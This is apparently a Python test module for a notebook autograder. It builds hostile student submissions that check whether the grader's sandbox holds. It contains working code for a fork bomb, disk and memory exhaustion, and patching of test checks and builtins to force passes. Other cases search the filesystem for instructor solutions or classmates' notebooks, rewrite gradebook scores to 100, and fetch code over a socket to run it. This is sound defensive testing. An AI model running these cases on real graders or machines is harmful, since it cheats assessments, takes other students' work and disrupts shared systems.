"""Hostile and broken submissions of notebook 1, for the grading tests and by hand.

Each CASE writes one student folder. The student notebook is notebooks/01_num_units.ipynb with
every answer cell filled in from the solutions, then one thing is done to it (or next to it).
`expected` is the score out of 10 the case deserves: the points of the exercises it answers
right and does not break (one_hot 2, simple_rnn_step 3, lstm_param_count 2, lstm_output_shapes 3),
None where nothing can be graded (no notebook, or one that is not a notebook).

    python3 autograder/tests/hostile.py OUT [CASE ...]     writes OUT/<case>/...

(run with .venv's Python). endless_loop, stubborn_loop and endless_output each cost a whole cell
timeout: grade them with a short one (`--cell-timeout 20`).
"""
import json
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))      # autograder/tests, for submissions

from lstm_grader import NOTEBOOKS, demo  # noqa: E402
from submissions import WRONG_ANSWERS  # noqa: E402

NOTEBOOK = "01_num_units"
POINTS = {"one_hot": 2, "simple_rnn_step": 3, "lstm_param_count": 2, "lstm_output_shapes": 3}
FULL = sum(POINTS.values())
WRONG_ONE_HOT = WRONG_ANSWERS[NOTEBOOK]["one_hot"][0]            # right shape, every 1 one place right
WRONG_PARAM_COUNT = WRONG_ANSWERS[NOTEBOOK]["lstm_param_count"][0]


def student_notebook():
    return json.loads((NOTEBOOKS / f"{NOTEBOOK}.ipynb").read_text())


def answered(**changes):
    """The student notebook with every answer right, except `changes` = {exercise: source}.
    A source containing `{solution}` gets the solution's code put in its place."""
    answers = demo.solution_answers(NOTEBOOK)
    answers.update({name: source.replace("{solution}", answers[name]) for name, source in changes.items()})
    return demo.fill_answers(student_notebook(), answers)


def cell(notebook, grade_id):
    return next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)


def one_file(notebook):
    return {f"{NOTEBOOK}.ipynb": json.dumps(notebook, indent=1)}


# ------------------------------------------------------------------ a. endless loops
def endless_loop():
    """`while True: pass` before the definition: one_hot is never defined."""
    return one_file(answered(one_hot="while True:\n    pass\n\n{solution}"))


def stubborn_loop():
    """A loop that swallows the KeyboardInterrupt nbgrader sends on timeout: the kernel never
    comes back, so with nbgrader's interrupt every later cell waits a whole timeout too."""
    return one_file(answered(one_hot="while True:\n    try:\n        while True:\n            pass\n"
                                     "    except KeyboardInterrupt:\n        pass\n\n{solution}"))


# ------------------------------------------------------------------ b. the kernel dies
def kernel_exit():
    return one_file(answered(simple_rnn_step="import os\nos._exit(1)\n\n{solution}"))


def segfault():
    return one_file(answered(lstm_param_count="import ctypes\nctypes.string_at(0)\n\n{solution}"))


def exit_handler():
    """Code registered to run when the kernel exits. The grader kills the kernel when the notebook
    is done, so it never runs (and in the sandbox it could not reach anything anyway)."""
    return one_file(answered(
        one_hot="import atexit, pathlib\natexit.register(pathlib.Path('EXIT_HANDLER_RAN').touch)\n\n{solution}"))


# ------------------------------------------------------------------ c. memory
def memory_hog():
    """80 GB in one go: refused at once (MemoryError) wherever overcommit is heuristic."""
    return one_file(answered(one_hot="too_big = np.ones(10**10)\n\n{solution}"))


def memory_6gb():
    """6 GB, 100 MB at a time, every page written: runs to the end unless the kernel is capped.
    Bounded, so it is safe to run without a cap on a machine with more than 8 GB."""
    return one_file(answered(simple_rnn_step=(
        "hog = []\nfor _ in range(60):\n    hog.append(np.ones(100 * 2**20 // 8))\n"
        "print(len(hog) * 100, 'MB held')\n\n{solution}")))


def memory_loop():
    """100 MB more at a time until something stops it. Only run with a memory cap!"""
    return one_file(answered(simple_rnn_step=(
        "hog = []\nwhile True:\n    hog.append(np.ones(100 * 2**20 // 8))\n\n{solution}")))


# ------------------------------------------------------------------ d. test cells edited
def edited_test():
    """Wrong one_hot; its test cell emptied (`pass`) and unlocked."""
    notebook = answered(one_hot=WRONG_ONE_HOT)
    test = cell(notebook, "test_one_hot")
    test["source"] = "pass"
    test["metadata"]["nbgrader"]["locked"] = False
    test["metadata"].pop("editable", None)
    return one_file(notebook)


def deleted_test():
    """Wrong one_hot; its test cell deleted."""
    notebook = answered(one_hot=WRONG_ONE_HOT)
    notebook["cells"].remove(cell(notebook, "test_one_hot"))
    return one_file(notebook)


def skipped_test():
    """Wrong one_hot; its test cell tagged `skip-execution` (nbclient skips such cells)."""
    notebook = answered(one_hot=WRONG_ONE_HOT)
    cell(notebook, "test_one_hot")["metadata"]["tags"] = ["skip-execution"]
    return one_file(notebook)


def ungraded_test():
    """Wrong one_hot; its test cell's metadata says grade: false, and 100 points."""
    notebook = answered(one_hot=WRONG_ONE_HOT)
    meta = cell(notebook, "test_one_hot")["metadata"]["nbgrader"]
    meta["grade"], meta["points"] = False, 100
    return one_file(notebook)


# ------------------------------------------------------------------ e. the checks patched
def patch_testing():
    """np.testing.assert_allclose disabled: the checks do not use it, so nothing changes."""
    return one_file(answered(one_hot="np.testing.assert_allclose = lambda *a, **k: None\n\n" + WRONG_ONE_HOT))


def patch_allclose():
    return one_file(answered(one_hot="np.allclose = lambda *a, **k: True\n\n" + WRONG_ONE_HOT))


def patch_checks():
    return one_file(answered(one_hot="import lstm_course.checks as c\nc.check_one_hot = lambda *a, **k: None\n\n"
                                     + WRONG_ONE_HOT))


def patch_builtins():
    """A float() whose results equal everything: lstm_param_count's `float(got) == want` passes."""
    return one_file(answered(lstm_param_count=(
        "import builtins\n\n\nclass _Equal(float):\n    def __eq__(self, other):\n        return True\n\n"
        "    __hash__ = float.__hash__\n\n\nbuiltins.float = _Equal\n\n" + WRONG_PARAM_COUNT)))


def patch_ipython():
    """Every error of every later cell swallowed by IPython (set_custom_exc); all answers wrong."""
    wrong = {name: source for name, (source, *_) in WRONG_ANSWERS[NOTEBOOK].items()}
    wrong["one_hot"] = ("get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n\n"
                        + wrong["one_hot"])
    return one_file(answered(**wrong))


def patch_input():
    """Every later cell that mentions `checks.` is blanked before it runs; all answers wrong."""
    wrong = {name: source for name, (source, *_) in WRONG_ANSWERS[NOTEBOOK].items()}
    wrong["one_hot"] = ("get_ipython().input_transformers_cleanup.append(\n"
                        "    lambda lines: [] if any('checks.' in line for line in lines) else lines)\n\n"
                        + wrong["one_hot"])
    return one_file(answered(**wrong))


# ------------------------------------------------------------------ f. files next to the notebook
SHADOW_NUMPY = '''\
"""Shadows numpy: loads the real one, then makes allclose always true."""
import os
import sys

print("SHADOW numpy.py imported")
here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
del sys.modules["numpy"]
import numpy as _real  # noqa: E402

_real.allclose = lambda *a, **k: True
sys.modules["numpy"] = _real
'''

SHADOW_CHECKS = '''\
print("SHADOW lstm_course.checks imported")


def __getattr__(name):
    return lambda *args, **kwargs: print("SHADOW", name, "passes")
'''


def shadow_files():
    """All answers wrong; beside the notebook a numpy.py, an lstm_course/ package whose checks always
    pass, and a changed data/counting.txt."""
    wrong = {name: source for name, (source, *_) in WRONG_ANSWERS[NOTEBOOK].items()}
    files = one_file(answered(**wrong))
    files["numpy.py"] = SHADOW_NUMPY
    files["lstm_course/__init__.py"] = 'print("SHADOW lstm_course imported")\nTF_QUIET_ENV = {}\n'
    files["lstm_course/checks.py"] = SHADOW_CHECKS
    files["data/counting.txt"] = "SHADOW data\n"
    return files


# ------------------------------------------------------------------ g. output
def big_output():
    """10 MB on one line in one answer cell, 200 000 lines from another."""
    return one_file(answered(one_hot="print('x' * 10**7)\n\n{solution}",
                             simple_rnn_step="for i in range(200_000):\n    print(i, 'spam' * 10)\n\n{solution}"))


def endless_output():
    """Prints without end: the cell times out; meanwhile the output must not pile up in memory."""
    return one_file(answered(one_hot="while True:\n    print('x' * 10_000)\n\n{solution}"))


# ------------------------------------------------------------------ h. not a notebook / none
def invalid_json():
    text = one_file(answered())[f"{NOTEBOOK}.ipynb"]
    return {f"{NOTEBOOK}.ipynb": text[: len(text) // 2]}


def not_a_notebook():
    """Valid JSON, but not a notebook."""
    return {f"{NOTEBOOK}.ipynb": json.dumps({"cells": "none"})}


def missing_notebook():
    """Only a copy with another name: the course notebook itself is missing."""
    return {f"{NOTEBOOK}-Copy1.ipynb": one_file(answered())[f"{NOTEBOOK}.ipynb"]}


# ------------------------------------------------------------------ i. reaching out of the kernel
# Each of these would pay off without the sandbox (test_hostile.py runs them unsandboxed too, to show
# it); in the sandbox each finds nothing and scores only what it answered itself.
FIND_FILES = """\
import os


def find_files(name, skip=()):
    \"\"\"Every readable file called `name` under /tmp, HOME and the working folder's ancestors.\"\"\"
    found, seen = [], set()
    roots = [os.getcwd(), os.path.expanduser("~"), "/tmp", "/root", "/home", "/work"]
    here = os.getcwd()
    while here != os.path.dirname(here):
        here = os.path.dirname(here)
        roots.append(here)
    for root in roots:
        for folder, subfolders, files in os.walk(root):
            depth = folder[len(root):].count(os.sep)
            subfolders[:] = [d for d in subfolders if depth < 8 and d not in (".venv", "site-packages", "proc", "sys")]
            if folder in seen:
                subfolders[:] = []
                continue
            seen.add(folder)
            if name in files:
                path = os.path.join(folder, name)
                if not any(path.startswith(s) for s in skip):
                    found.append(path)
    return found
"""

RUN_ANSWERS = """\
import json


def run_answers(path):
    \"\"\"Run every answer cell of another copy of this notebook here; True if it held answers.\"\"\"
    cells = json.load(open(path))["cells"]
    code = ["".join(c["source"]) for c in cells
            if c.get("metadata", {}).get("nbgrader", {}).get("grade_id", "").startswith("answer_")]
    if not code or any("NotImplementedError" in source or "see the first answer" in source for source in code):
        return False
    for source in code:
        exec(source, globals())
    return True
"""


def stub_answers(first):
    """`first` in the first answer cell, and nothing of the student's own in the others."""
    names = list(POINTS)
    return answered(**{names[0]: first, **{name: "pass  # see the first answer\n" for name in names[1:]}})


def read_solutions():
    """Finds the instructor's solutions (through lstm_course's path, or anywhere it can look: the
    course's solutions/ or the source/ folder of nbgrader's course folder) and runs their answers."""
    return one_file(stub_answers(FIND_FILES + RUN_ANSWERS + """
import lstm_course, pathlib

course = pathlib.Path(lstm_course.__file__).resolve().parents[2]
candidates = [str(course / "solutions" / "01_num_units.ipynb")] + find_files("01_num_units.ipynb")
used = [path for path in candidates if os.path.exists(path) and ("/solutions/" in path or "/source/" in path)]
print("solutions found:", [path for path in used if run_answers(path)])
"""))


def read_other_student():
    """Looks for other students' copies of this notebook and runs the first one with answers."""
    return one_file(stub_answers(FIND_FILES + RUN_ANSWERS + """
others = find_files("01_num_units.ipynb", skip=(os.getcwd(),))
print("other notebooks found:", others)
print("answers taken from:", next((path for path in others if run_answers(path)), None))
"""))


def write_gradebook():
    """All answers right; rewrites every gradebook.db (all scores 100) and grades.csv it can find."""
    return one_file(answered(one_hot=FIND_FILES + """
import sqlite3

changed = []
for path in find_files("gradebook.db"):
    try:
        with sqlite3.connect(path) as db:
            db.execute("UPDATE grade SET manual_score = 100")
        changed.append(path)
    except Exception as error:
        print("could not change", path, error)
for path in find_files("grades.csv"):
    try:
        open(path, "a").write("everyone,100\\n")
        changed.append(path)
    except Exception as error:
        print("could not change", path, error)
print("record files changed:", changed)

{solution}"""))


def network():
    """Asks a server on the grading machine for the answers (the test runs one on CONTEXT['port'])."""
    return one_file(stub_answers(f"""
import socket

with socket.create_connection(("127.0.0.1", {CONTEXT.get("port", 9)}), timeout=5) as server:
    server.sendall(b"answers please")
    exec(server.recv(1_000_000).decode(), globals())
print("answers received over the network")
"""))


def fork_bomb():
    """Starts processes without end before its (right) one_hot."""
    return one_file(answered(one_hot="import os\nwhile True:\n    os.fork()\n\n{solution}"))


def fill_tmp():
    """Writes into /tmp until the disk is full, before its (right) one_hot."""
    return one_file(answered(one_hot=(
        "with open('/tmp/filler', 'wb') as filler:\n    while True:\n        filler.write(b'x' * 2**20)\n\n"
        "{solution}")))


SHADOW_MODULE = """\
import pathlib
pathlib.Path({marker!r}).write_text("imported by " + __file__)
raise ImportError("shadow module")
"""


def shadow_module():
    """All answers right; writes keras.py, tensorflow.py, numpy.py and nbformat.py into every folder
    it can write to, each leaving a marker file if anyone imports it."""
    source = SHADOW_MODULE.format(marker=CONTEXT.get("marker", "/tmp/lstm-grader-shadow-imported"))
    return one_file(answered(one_hot=f"""
import os, sys

written = []
places = set(sys.path + [os.getcwd(), os.path.expanduser("~"), "/tmp"])
here = os.getcwd()
while here != os.path.dirname(here):
    here = os.path.dirname(here)
    places.add(here)
for place in sorted(p for p in places if p):
    for name in ("keras.py", "tensorflow.py", "numpy.py", "nbformat.py"):
        try:
            with open(os.path.join(place, name), "x") as module:
                module.write({source!r})
            written.append(os.path.join(place, name))
        except OSError:
            pass
print("modules written:", written)

{{solution}}"""))


def print_in_recheck():
    """one_hot is right when the notebook's own check calls it, and prints without end when the
    grader calls it again from outside the check."""
    return one_file(answered(one_hot="""import sys

{solution}

_right_one_hot = one_hot


def one_hot(ids, depth):
    if "checks" not in sys._getframe(1).f_code.co_filename:
        while True:
            print("x" * 10_000)
    return _right_one_hot(ids, depth)
"""))


def all_right():
    return one_file(answered())


# name: (writer, points deserved out of FULL, or None where nothing can be graded)
CASES = {
    "all_right": (all_right, FULL),
    "endless_loop": (endless_loop, FULL - 2),
    "stubborn_loop": (stubborn_loop, FULL - 2),
    "kernel_exit": (kernel_exit, FULL - 3),
    "segfault": (segfault, FULL - 2),
    "exit_handler": (exit_handler, FULL),
    "memory_hog": (memory_hog, FULL - 2),
    "memory_6gb": (memory_6gb, FULL - 3),        # under a cap below 6 GB
    "memory_loop": (memory_loop, FULL - 3),      # cap needed
    "edited_test": (edited_test, FULL - 2),
    "deleted_test": (deleted_test, FULL - 2),
    "skipped_test": (skipped_test, FULL - 2),
    "ungraded_test": (ungraded_test, FULL - 2),
    "patch_testing": (patch_testing, FULL - 2),
    "patch_allclose": (patch_allclose, FULL - 2),
    "patch_checks": (patch_checks, FULL - 2),
    "patch_builtins": (patch_builtins, FULL - 2 - 3),  # its float also breaks Keras later
    "patch_ipython": (patch_ipython, 0),
    "patch_input": (patch_input, 0),
    "shadow_files": (shadow_files, 0),
    "big_output": (big_output, FULL),
    "endless_output": (endless_output, FULL - 2),
    "invalid_json": (invalid_json, None),
    "not_a_notebook": (not_a_notebook, None),
    "missing_notebook": (missing_notebook, None),
    "read_solutions": (read_solutions, 0),
    "read_other_student": (read_other_student, 0),
    "write_gradebook": (write_gradebook, FULL),
    "network": (network, 0),
    "fork_bomb": (fork_bomb, FULL - 2),
    "fill_tmp": (fill_tmp, FULL - 2),
    "shadow_module": (shadow_module, FULL),
    "print_in_recheck": (print_in_recheck, FULL - 2),
}
# What the cases above would score without the sandbox: they do pay off (test_hostile.py shows it).
UNSANDBOXED = {"read_solutions": FULL, "read_other_student": FULL, "network": FULL}
CONTEXT = {}  # port: where `network` asks for answers; marker: the file `shadow_module` leaves when imported


def write(folder, names=None, **context):
    """Write the named cases (all by default) as student folders under `folder`; `context` gives
    `network` its port and `shadow_module` its marker file."""
    CONTEXT.clear()
    CONTEXT.update(context)
    folder = Path(folder)
    for name in names or CASES:
        for relative, text in CASES[name][0]().items():
            path = folder / name / relative
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
    return folder


if __name__ == "__main__":
    write(sys.argv[1], sys.argv[2:])
